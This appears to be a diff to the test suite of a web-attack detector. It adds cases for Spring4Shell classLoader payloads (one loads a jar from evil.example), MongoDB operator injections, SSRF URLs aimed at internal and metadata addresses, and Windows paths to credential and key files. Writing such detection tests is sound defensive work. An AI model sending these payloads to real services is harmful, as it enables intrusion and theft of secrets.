@@ -828,18 +828,23 @@ t.test('(sixty-second round, the spent hundred-and-thirty-ninth and -forty-third
     "class%5B'classLoader'%5D.resources=x",
   ]) t.ok(pair(v).includes('rce'), v)
   t.ok(q('class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i').includes('rce'), 'in a value too')
+  // (second look, in Spring's WebDataBinder 4.3 on OpenJDK 17: the field-default `!` and a nested property's path reach the loader too)
+  for (const v of ['!class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp', 'address.class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp', '!address.Class.Module.ClassLoader.marker=x', 'CLASS.MODULE.CLASSLOADER.MARKER=x']) t.ok(pair(v).includes('rce'), v)
+  // (second look) an advisory's, a rule's or a question's text naming the path is no assignment
+  for (const v of ['Block requests whose parameters contain class.module.classLoader (CVE-2022-22965).', 'alert http any any -> any any (msg:"Spring4Shell"; content:"class.module.classLoader"; http_client_body;)', 'Spring4Shell: why class.classLoader.URLs[0] was blocked in 2010 (CVE-2010-1622)']) t.same(json({ description: v }), [], v)
   for (const v of ['class.name=x', 'classes.classloader=1', 'classLoader=x', 'myclass.classLoader.x=1']) t.notOk(pair(v).includes('rce'), v)
   for (const v of ['def url = this.class.classLoader.getResource("config.yml")', 'InputStream in = getClass().getClassLoader().getResourceAsStream("a");']) t.notOk(q(v).includes('rce'), v)
   // (review) not a question's or a snippet's `class.classLoader` in a value: only Spring4Shell's own paths there
   for (const v of ['Why does class.classLoader.getResource() return null in Groovy?', "see class['classLoader'].x", 'def cl = class.classLoader.parent']) t.notOk(q(v).includes('rce'), v)
-  t.ok(q('x=1&class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/').includes('rce'), 'its URLs in a value')
+  t.ok(q('x=1&class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/').includes('rce'), 'its URLs assigned in a value')
   // `$jsonSchema` in a field's brackets, as `$ne` is read there
   for (const v of ['%5B%24jsonSchema%5D%5Bproperties%5D%5Busername%5D%5Btype%5D=string', 'filter[$jsonSchema][required][0]=password']) t.ok(pair(v).includes('nosqli'), v)
-  // (review) a Markdown link naming the operator, as the manual does, is no operator
-  for (const v of ['See [$jsonSchema](https://www.mongodb.com/docs/manual/reference/operator/query/jsonSchema/) for validation.', 'See [$regex](https://www.mongodb.com/docs/manual/reference/operator/query/regex/).']) t.notOk(q(v).includes('nosqli'), v)
+  // (second look: qs and PHP's parse_str ignore what follows the last `]`, `user[$ne](=1` is `{user: {$ne: '1'}}`; a Markdown link naming
+  // an operator, `[$regex](https://…)`, stays read, a known false positive)
+  for (const v of ['user[$ne](=1', 'user[$regex](x)=^a', 'user%5B%24ne%5D%28=1']) t.ok(pair(v).includes('nosqli'), v)
 })
 
-t.test("(sixty-second round, after its measurement, tuned on the spent hundred-and-fifty-first and -second parts) IPv6 literals carrying an internal IPv4 address; a userinfo's `%2F` as the application has it; a PHP class's fully qualified name", async (t) => {
+t.test("(sixty-second round, after its measurement, tuned on the spent hundred-and-fifty-first and -second parts) IPv6 literals carrying an internal IPv4 address; a userinfo's `%2F` as the application has it", async (t) => {
   const pair = (query: string) => detector.detect({ ...base, query })
   // 6to4, NAT64's well-known prefix and the IPv4-compatible form of loopback and private addresses, under a parameter named for a URL
   for (const v of ['https://[2002:7f00:0001::]/file.txt', 'https://[2002:c0a8:0101::]/x', 'https://[2002:6440:0001::]/x', 'https://[64:ff9b::7f00:1]/x', 'https://[64:ff9b::127.0.0.1]/x', 'https://[64:ff9b::a9fe:a9fe]/latest/meta-data/', 'https://[::127.0.0.1]/x', 'https://[::a00:1]/x', 'http://[::192.168.1.1]:8080/']) t.ok(pair(`image_url=${encodeURIComponent(v)}`).includes('ssrf'), v)
@@ -850,17 +855,11 @@ t.test("(sixty-second round, after its measurement, tuned on the spent hundred-a
   // the application receives `http://attacker.com%2F@127.0.0.1/` (sent encoded once more): its parser reads 127.0.0.1 as the host
   t.ok(pair('callback=http%3A%2F%2Fattacker.com%252F%40127.0.0.1%2F').includes('ssrf'), 'a userinfo with an escaped slash')
   t.notOk(pair('callback=http://attacker.com%2F@127.0.0.1/').includes('ssrf'), 'the application has http://attacker.com/@127.0.0.1/: the host is attacker.com')
-  // IceHrm's module descriptors name their PHP classes; a system's tree rooted the same way is still a path
-  for (const v of ['\\Loans\\Common\\Model', '\\Loans\\Admin\\Api\\LoansAdminManager', '\\App\\Http\\Controllers\\UserController']) {
-    t.same(json({ model_namespace: v }), [], v)
-    t.same(json({ manager: v }), [], v)
-    t.ok(json({ path: v }).includes('path_traversal'), `under a key naming a file: ${v}`)
-  }
-  // (review: drive-rooted paths a deny list of the first segment let through — PHP on Windows opens `\a\b` at the current drive's root)
-  for (const v of ['\\laragon\\tmp\\sess_5f2a9c0b1e3d4f6a7b8c9d0e1f2a3b4c', '\\xampp8\\php\\logs\\php_error_log', '\\cygwin64\\etc\\ssh_host_rsa_key', '\\apache24\\conf\\extra', '\\Intel\\Logs\\IntelGFX', '\\proc\\net\\tcp', '\\data\\db\\WiredTiger', '\\ProgramFiles\\X\\Y']) {
+  // (second look) a PHP class's name under a key naming a class stays read as a drive-rooted path: PHP on Windows opens `\\a\\b` at the
+  // current drive's root, and `module`, `controller`, `handler` or a `type` are what applications include files by
+  for (const v of ['\\Loans\\Common\\Model', '\\Www\\Uploads\\Shell', '\\Jenkins\\Secrets\\InitialAdminPassword', '\\laragon\\tmp\\sess_5f2a9c0b1e3d4f6a7b8c9d0e1f2a3b4c', '\\xampp8\\php\\logs\\php_error_log']) {
     t.ok(json({ model_namespace: v }).includes('path_traversal'), v)
-    t.ok(json({ path: v }).includes('path_traversal'), v)
+    t.ok(json({ module: v }).includes('path_traversal'), v)
   }
-  for (const v of ['\\windows\\system32\\config\\sam', '\\Windows\\System32\\drivers\\etc\\hosts', '\\Users\\Public\\secret', '\\inetpub\\wwwroot\\web.config', '\\xampp\\apache\\conf\\httpd', '\\foo\\..\\..\\windows\\win.ini']) t.ok(q(v).includes('path_traversal'), v)
 })
 
